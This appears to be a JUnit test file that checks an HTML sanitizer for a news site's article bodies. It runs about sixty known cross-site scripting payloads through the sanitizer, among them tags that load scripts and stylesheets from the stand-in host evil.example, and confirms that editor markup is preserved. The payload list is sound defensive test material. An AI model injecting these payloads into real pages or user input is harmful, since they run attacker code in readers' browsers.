package org.masthead.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.Test;

/** Known XSS payloads, none of which may leave anything that runs in a reader's browser. */
class BodySanitizerTest {

    private final BodySanitizer sanitizer = new BodySanitizer(
            () -> List.of("www.youtube-nocookie.com", "www.youtube.com", "player.vimeo.com"));

    static Stream<String> payloads() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<script/xss src=//evil.example/x.js></script>",
                "<<SCRIPT>alert(1);//<</SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"javascript:alert(1)\">",
                "<img src=\"jav&#x09;ascript:alert(1)\">",
                "<img src=\"jav&#x0A;ascript:alert(1)\">",
                "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
                "<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<IMG SRC=`javascript:alert(1)`>",
                "<img dynsrc=\"javascript:alert(1)\">",
                "<img lowsrc=\"javascript:alert(1)\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\" javascript:alert(1)\">x</a>",
                "<a href=\"java\0script:alert(1)\">x</a>",
                "<a href=\"&#14;javascript:alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">x</a>",
                "<a href=\"https://ok.example\" style=\"background:url(javascript:alert(1))\">x</a>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style>body{background:url(\"javascript:alert(1)\")}</style>",
                "<p style=\"width: expression(alert(1))\">x</p>",
                "<div style=\"behavior: url(xss.htc)\">x</div>",
                "<link rel=stylesheet href=\"https://evil.example/x.css\">",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe src=\"https://evil.example/embed\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<iframe src=\"https://www.youtube.com/embed/x\" onload=\"alert(1)\"></iframe>",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"https://evil.example/x.swf\">",
                "<form action=\"javascript:alert(1)\"><input type=submit></form>",
                "<button formaction=\"javascript:alert(1)\">x</button>",
                "<input onfocus=alert(1) autofocus>",
                "<body onload=alert(1)>",
                "<details open ontoggle=alert(1)>",
                "<video><source onerror=\"alert(1)\"></video>",
                "<audio src=x onerror=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
                "<base href=\"javascript:alert(1)//\">",
                "<p>ok</p><!--<script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "%3Cscript%3Ealert(1)%3C/script%3E<img src=x onerror=alert(1)>",
                "&lt;script&gt;alert(1)&lt;/script&gt;<b onclick=alert(1)>b</b>",
                "<figure><img src=\"https://img.example/a.jpg\" onerror=\"alert(1)\"><figcaption onclick=alert(1)>c</figcaption></figure>",
                "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
                "<a href=\"https://ok.example\" target=\"_blank\">tabnab</a>");
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void nothingThatRunsSurvives(String payload) {
        String clean = sanitizer.sanitize("<p>before</p>" + payload + "<p>after</p>");
        Document document = Jsoup.parseBodyFragment(clean);

        assertThat(document.select("script, style, svg, math, object, embed, form, input, button, link, meta, base, "
                + "video, audio, source, marquee, details, body body")).as(clean).isEmpty();
        for (Element element : document.body().getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase();
                String value = attribute.getValue().replaceAll("[\\s\\x00-\\x1f]", "").toLowerCase();
                assertThat(name).as(clean).doesNotStartWith("on").isNotIn("style", "srcdoc", "formaction", "background",
                        "dynsrc", "lowsrc", "xlink:href");
                assertThat(value).as(clean).doesNotStartWith("javascript:").doesNotStartWith("vbscript:")
                        .doesNotStartWith("data:");
            }
            if (element.tagName().equals("iframe")) {
                assertThat(element.attr("src")).as(clean).startsWith("https://www.youtube.com/");
            }
        }
        assertThat(clean).as("text before the payload is kept").contains("before");
    }

    @Test
    void payloadListIsLongEnough() {
        assertThat(payloads().count()).isGreaterThanOrEqualTo(50);
    }

    @Test
    void articleMarkupIsKept() {
        String html = "<h2>Heading</h2><p>A <strong>bold</strong> and <em>quiet</em> word, "
                + "<a href=\"https://news.example/story\">a link</a>.</p><ul><li>one</li></ul><blockquote>quote</blockquote>"
                + "<figure><img src=\"https://img.example/pier.jpg\" alt=\"The pier\"><figcaption>The pier (AP/Ana Ruiz)</figcaption></figure>"
                + "<iframe src=\"https://www.youtube-nocookie.com/embed/abc\" width=\"560\" height=\"315\" allowfullscreen></iframe>";
        Document clean = Jsoup.parseBodyFragment(sanitizer.sanitize(html));

        assertThat(clean.select("h2").text()).isEqualTo("Heading");
        assertThat(clean.select("strong").text()).isEqualTo("bold");
        assertThat(clean.select("a").attr("href")).isEqualTo("https://news.example/story");
        assertThat(clean.select("a").attr("rel")).contains("noopener");
        assertThat(clean.select("figure img").attr("alt")).isEqualTo("The pier");
        assertThat(clean.select("figcaption").text()).isEqualTo("The pier (AP/Ana Ruiz)");
        assertThat(clean.select("iframe").attr("src")).isEqualTo("https://www.youtube-nocookie.com/embed/abc");
        assertThat(clean.select("iframe").attr("sandbox")).as("the player cannot navigate our page or open forms")
                .isEqualTo("allow-scripts allow-same-origin allow-presentation");
        assertThat(clean.select("iframe").attr("referrerpolicy")).isEqualTo("strict-origin-when-cross-origin");
        assertThat(clean.select("li").text()).isEqualTo("one");
    }

    /** What the desk's TipTap editor writes, with its default link attributes, keeps its structure exactly. */
    @Test
    void theRichEditorsMarkupIsKept() {
        String html = "<h2>Notes</h2><h3>Times</h3><p><strong>b</strong> <em>i</em> <u>u</u> <s>s</s> <code>c</code> "
                + "<a target=\"_blank\" rel=\"noopener noreferrer nofollow\" href=\"https://news.example/a\">l</a><br>x</p>"
                + "<ul><li><p>one</p></li></ul><ol><li><p>two</p><ul><li><p>nested</p></li></ul></li></ol>"
                + "<blockquote><p>q</p></blockquote><pre><code>code block</code></pre><hr>";
        Document clean = Jsoup.parseBodyFragment(sanitizer.sanitize(html));

        assertThat(clean.select("h2, h3, p, strong, em, u, s, code, a, br, ul, ol, li, blockquote, pre, hr").stream()
                .map(Element::tagName).toList()).containsExactly("h2", "h3", "p", "strong", "em", "u", "s", "code", "a", "br",
                        "ul", "li", "p", "ol", "li", "p", "ul", "li", "p", "blockquote", "p", "pre", "code", "hr");
        assertThat(clean.select("a").attr("href")).isEqualTo("https://news.example/a");
        assertThat(clean.select("a").hasAttr("target")).isFalse();
        assertThat(clean.select("a").attr("rel")).contains("noopener").contains("noreferrer");
        assertThat(clean.select("ol > li > ul > li > p").text()).isEqualTo("nested");
    }
}
